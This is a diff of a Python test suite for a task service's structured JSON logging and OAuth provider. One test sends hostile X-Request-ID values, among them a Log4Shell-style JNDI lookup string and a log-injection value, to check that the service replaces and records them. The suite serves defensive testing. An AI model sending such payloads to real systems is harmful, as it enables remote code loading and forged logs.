@@ -3,7 +3,6 @@
 
     example_test.py DIR      DIR holds task_service, oauth_provider and traffic
 """
-import collections
 import http.client
 import json
 import pathlib
@@ -21,7 +20,7 @@ SECRET = "a-client-secret-for-this-test"
 TIMEOUT_S = 60
 
 LEVELS = {"TRACE", "DEBUG", "INFO", "WARNING", "ERROR", "CRITICAL"}
-STANDARD = {"timestamp": str, "level": str, "service": str, "environment": str, "logger": str, "message": str}
+STANDARD = {"timestamp", "level", "service", "environment", "logger", "message"}  # strings, on every line
 OBJECTS = {"context", "metadata", "source", "exception"}
 TIMESTAMP = re.compile(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z")
 # A token of the provider, a password of the demo's people, a guess of the traffic's bursts, the client's secret.
@@ -73,6 +72,9 @@ class Program:
     def lines(self):
         return [json.loads(line) for line in self.log_file.read_bytes().splitlines()]
 
+    def lines_of(self, request_id):
+        return [line for line in self.lines() if line.get("context", {}).get("request_id") == request_id]
+
     def summary(self):
         return json.loads(self.summary_file.read_text())
 
@@ -89,10 +91,14 @@ def call(program, method, path, body=None, **headers):
     connection = http.client.HTTPConnection("127.0.0.1", program.port, timeout=TIMEOUT_S)
     try:
         text = None if body is None else json.dumps(body)
-        connection.request(method, path, text, {name.replace("_", "-"): value for name, value in headers.items()})
+        connection.request(method, path, text, {key.replace("_", "-"): value for key, value in headers.items()})
         return Answer(connection.getresponse())
     finally:
         connection.close()
+
+
+def bearer(token):
+    return {"Authorization": f"Bearer {token['access_token']}"}
 
 
 class ExampleTest(unittest.TestCase):
@@ -121,16 +127,15 @@ class ExampleTest(unittest.TestCase):
 
     def create_task(self, token, **headers):
         """A task assigned to its creator, so that a job comes of it."""
-        projects = call(self.service, "GET", "/api/v1/projects", Authorization=f"Bearer {token['access_token']}")
-        body = {"title": "Überprüfung \"42\"", "project_id": projects.json["projects"][0]["id"],
+        projects = call(self.service, "GET", "/api/v1/projects", **bearer(token)).json["projects"]
+        body = {"title": "Überprüfung \"42\"", "project_id": projects[0]["id"],
                 "assignee_id": token["user_id"], "priority": 2}
-        return call(self.service, "POST", "/api/v1/tasks", body, Authorization=f"Bearer {token['access_token']}",
-                    **headers)
+        return call(self.service, "POST", "/api/v1/tasks", body, **bearer(token), **headers)
 
     def assert_documented_shape(self, line):
-        self.assertLessEqual(set(line), set(STANDARD) | OBJECTS)
-        for name, kind in STANDARD.items():
-            self.assertIsInstance(line.get(name), kind, line)
+        self.assertLessEqual(set(line), STANDARD | OBJECTS)
+        for name in STANDARD:
+            self.assertIsInstance(line.get(name), str, line)
         for name in OBJECTS & set(line):
             self.assertIsInstance(line[name], dict, line)
         self.assertRegex(line["timestamp"], TIMESTAMP)
@@ -143,11 +148,10 @@ class ExampleTest(unittest.TestCase):
         self.assertEqual((created.status, created.request_id), (201, "req_8f4e2b1c"))
         self.stop_all()
 
-        mine = [line for line in self.service.lines() if line.get("context", {}).get("request_id") == "req_8f4e2b1c"]
-        theirs = [line for line in self.provider.lines() if line.get("context", {}).get("request_id") == "req_8f4e2b1c"]
-        loggers = collections.Counter(line["logger"] for line in mine)
-        for logger in ["request", "application", "database", "integration", "job.queue", "job.worker", "security"]:
-            self.assertGreater(loggers[logger], 0, f"{logger} in {loggers}")
+        mine = self.service.lines_of("req_8f4e2b1c")
+        theirs = self.provider.lines_of("req_8f4e2b1c")
+        self.assertLessEqual({"request", "application", "database", "integration", "job.queue", "job.worker",
+                              "security"}, {line["logger"] for line in mine})
         self.assertIn("OAuth token issued", [line["message"] for line in theirs])
         self.assertEqual({line["service"] for line in mine + theirs}, {"api", "oauth-provider"})
 
@@ -161,7 +165,7 @@ class ExampleTest(unittest.TestCase):
         token = self.log_in()
         created = self.create_task(token, User_Agent="Mozilla/5.0...", X_Forwarded_For="192.168.1.100")
         self.stop_all()
-        lines = [line for line in self.service.lines() if line.get("context", {}).get("request_id") == created.request_id]
+        lines = self.service.lines_of(created.request_id)
         task = next(line for line in lines if line["message"] == "Task created successfully")
         self.assertEqual(task["context"], {
             "request_id": created.request_id, "user_id": token["user_id"],
@@ -170,21 +174,23 @@ class ExampleTest(unittest.TestCase):
         self.assertEqual(set(task["metadata"]), {"duration_ms", "method", "path", "status_code"})
         request = next(line for line in lines if line["message"] == "HTTP request completed")
         self.assertEqual(set(request["context"]), {"request_id", "user_id", "organization_id"})
-        expected = {"method": "POST", "path": "/api/v1/tasks", "status_code": 201, "user_agent": "Mozilla/5.0...",
-                    "ip_address": "192.168.1.100", "response_size_bytes": len(created.text.encode())}
+        expected = {"method": "POST", "path": "/api/v1/tasks", "status_code": 201,
+                    "user_agent": "Mozilla/5.0...", "ip_address": "192.168.1.100",
+                    "response_size_bytes": len(created.text.encode())}
         self.assertEqual({name: request["metadata"][name] for name in expected}, expected)
         self.assertGreater(request["metadata"]["duration_ms"], 0)
 
     # REQ C-01
     def test_hostile_request_ids_are_replaced_and_noted(self):
-        token = self.log_in()["access_token"]
+        token = self.log_in()
         hostile = ["A" * 700, 'x","level":"CRITICAL","y":"', "${jndi:ldap://203.0.113.66/a}", "caf\xe9\xff"]
-        given = [call(self.service, "GET", "/api/v1/tasks", Authorization=f"Bearer {token}", X_Request_ID=id).request_id
-                 for id in hostile]
+        answers = [call(self.service, "GET", "/api/v1/tasks", **bearer(token), X_Request_ID=request_id)
+                   for request_id in hostile]
+        given = [answer.request_id for answer in answers]
         self.stop_all()
         self.assertEqual(len(set(given)), len(hostile))
-        for id in given:
-            self.assertRegex(id, r"^req_[0-9a-f]{12}$")
+        for request_id in given:
+            self.assertRegex(request_id, r"^req_[0-9a-f]{12}$")
         noted = [line for line in self.service.lines() if line["message"] == "Hostile request id replaced"]
         self.assertEqual([line["context"]["request_id"] for line in noted], given)
         self.assertIn("jndi", noted[2]["metadata"]["rejected"])
@@ -200,35 +206,41 @@ class ExampleTest(unittest.TestCase):
         counts = json.loads(traffic.stdout)
         self.assertEqual((traffic.returncode, counts["unanswered"], counts["unexpected"]), (0, 0, 0), counts)
         self.assertGreaterEqual(counts["requests"], 200)
-        bearer = {"Authorization": f"Bearer {token['access_token']}"}
-        report = f"/api/v1/reports/rpt_{token['organization_id'][4:]}_2"
-        self.assertEqual(call(self.service, "GET", report, **bearer).status, 200)
-        for fault in ["exception", "database"]:
-            self.assertEqual(call(self.service, "GET", "/api/v1/tasks", X_Demo_Fault=fault, **bearer).status, 500)
-        for i in range(6):
-            wrong = {"email": "user1@mail.example", "password": f"guess-{i}"}
-            self.assertEqual(call(self.service, "POST", "/api/v1/login", wrong, X_Forwarded_For="203.0.113.9").status, 401)
-        self.assertEqual(call(self.service, "POST", "/api/v1/tasks", {"title": ""}, **bearer).status, 422)
-        self.assertEqual(call(self.service, "POST", "/api/v1/logout", **bearer).status, 204)
-        self.assertEqual(call(self.service, "GET", "/api/v1/tasks", **bearer).status, 401)
+        self.misbehave(token)
         self.stop_all()
 
-        for program in [self.service, self.provider]:
+        for program, name in [(self.service, "api"), (self.provider, "oauth-provider")]:
             lines = program.lines()
             for line in lines:
                 self.assert_documented_shape(line)
             self.assertIsNone(SECRETS.search(program.log_file.read_text()))
-            self.assertEqual({name: program.summary()[name] for name in ["lines_logged", "lines_delivered", "lines_dropped"]},
-                             {"lines_logged": len(lines), "lines_delivered": len(lines), "lines_dropped": 0})
-        messages = collections.Counter(line["message"] for line in self.service.lines() + self.provider.lines())
-        for message in ["Slow database query", "Executed database query", "Failed login attempt", "Suspicious activity",
-                        "Unhandled exception", "Database query failed", "Validation failed", "Job succeeded",
-                        "External service responded", "OAuth authorization requested", "OAuth authorization failed",
-                        "OAuth token revoked", "Login succeeded", "Authentication failed"]:
-            self.assertGreater(messages[message], 0, message)
-        failure = next(line for line in self.service.lines() if "exception" in line and "board" in json.dumps(line))
+            self.assertEqual(program.summary(), {"service": name, "lines_logged": len(lines),
+                                                 "lines_delivered": len(lines), "lines_dropped": 0})
+        messages = {line["message"] for line in self.service.lines() + self.provider.lines()}
+        self.assertLessEqual({
+            "Slow database query", "Executed database query", "Database query failed", "Failed login attempt",
+            "Suspicious activity", "Permission denied", "Login succeeded", "Logged out", "Authentication failed",
+            "Unhandled exception", "Validation failed", "Job succeeded", "External service responded",
+            "OAuth authorization requested", "OAuth authorization failed", "OAuth token revoked"}, messages)
+        failure = next(line for line in self.service.lines() if "layout" in json.dumps(line.get("exception")))
         self.assertEqual(failure["level"], "ERROR")
         self.assertIn("source", failure)
+
+    def misbehave(self, token):
+        def status(method, path, body=None, **headers):
+            return call(self.service, method, path, body, **headers).status
+
+        mine = bearer(token)
+        self.assertEqual(status("GET", f"/api/v1/reports/rpt_{token['organization_id'][4:]}_2", **mine), 200)
+        for fault in ["exception", "database"]:
+            self.assertEqual(status("GET", "/api/v1/tasks", X_Demo_Fault=fault, **mine), 500)
+        for i in range(6):
+            wrong = {"email": "user1@mail.example", "password": f"guess-{i}"}
+            self.assertEqual(status("POST", "/api/v1/login", wrong, X_Forwarded_For="203.0.113.9"), 401)
+        self.assertEqual(status("POST", "/api/v1/tasks", {"title": ""}, **mine), 422)
+        self.assertEqual(status("POST", "/api/v1/tasks", {"title": ""}, **bearer(self.log_in(4))), 403)
+        self.assertEqual(status("POST", "/api/v1/logout", **mine), 204)
+        self.assertEqual(status("GET", "/api/v1/tasks", **mine), 401)
 
     def test_stats_counts_what_the_file_holds(self):
         token = self.log_in()
@@ -247,24 +259,24 @@ class ExampleTest(unittest.TestCase):
         self.assertEqual(answer.status, 503)
         self.assertEqual(call(self.service, "GET", "/healthz").status, 200)
         self.assertEqual(self.service.stop(), 0)
-        lines = [line for line in self.service.lines() if line.get("context", {}).get("request_id") == answer.request_id]
-        self.assertIn(("ERROR", "External service failed"), {(line["level"], line["message"]) for line in lines})
+        lines = self.service.lines_of(answer.request_id)
+        self.assertIn(("ERROR", "External service failed"),
+                      {(line["level"], line["message"]) for line in lines})
 
     # REQ C-07
     def test_a_job_that_fails_is_tried_three_times_and_given_up(self):
         token = self.log_in()
-        bearer = {"Authorization": f"Bearer {token['access_token']}"}
         # The first person of this organization whose mail is refused.
         refused = next(number for number in range(39, 200, 40)
                        if self.log_in(number)["organization_id"] == token["organization_id"])
         user_id = self.log_in(refused)["user_id"]
-        project = call(self.service, "GET", "/api/v1/projects", **bearer).json["projects"][0]["id"]
+        project = call(self.service, "GET", "/api/v1/projects", **bearer(token)).json["projects"][0]["id"]
         created = call(self.service, "POST", "/api/v1/tasks",
-                       {"title": "x", "project_id": project, "assignee_id": user_id}, **bearer)
+                       {"title": "x", "project_id": project, "assignee_id": user_id}, **bearer(token))
         self.assertEqual(created.status, 201)
         self.stop_all()
-        jobs = [(line["level"], line["message"], line["metadata"].get("attempt")) for line in self.service.lines()
-                if line.get("context", {}).get("request_id") == created.request_id and line["logger"] == "job.worker"]
+        jobs = [(line["level"], line["message"], line["metadata"]["attempt"])
+                for line in self.service.lines_of(created.request_id) if line["logger"] == "job.worker"]
         self.assertEqual(jobs, [("INFO", "Job started", 1), ("WARNING", "Job failed, will be tried again", 1),
                                 ("INFO", "Job started", 2), ("WARNING", "Job failed, will be tried again", 2),
                                 ("INFO", "Job started", 3), ("ERROR", "Job failed", 3)])
@@ -273,8 +285,8 @@ class ExampleTest(unittest.TestCase):
         token = self.log_in()
         report = f"/api/v1/reports/rpt_{token['organization_id'][4:]}_2"
         answers = []
-        slow = threading.Thread(target=lambda: answers.append(
-            call(self.service, "GET", report, Authorization=f"Bearer {token['access_token']}")))
+        slow = threading.Thread(
+            target=lambda: answers.append(call(self.service, "GET", report, **bearer(token))))
         slow.start()
         deadline = time.monotonic() + TIMEOUT_S
         while '"table":"reports"' not in self.service.log_file.read_text() and time.monotonic() < deadline:
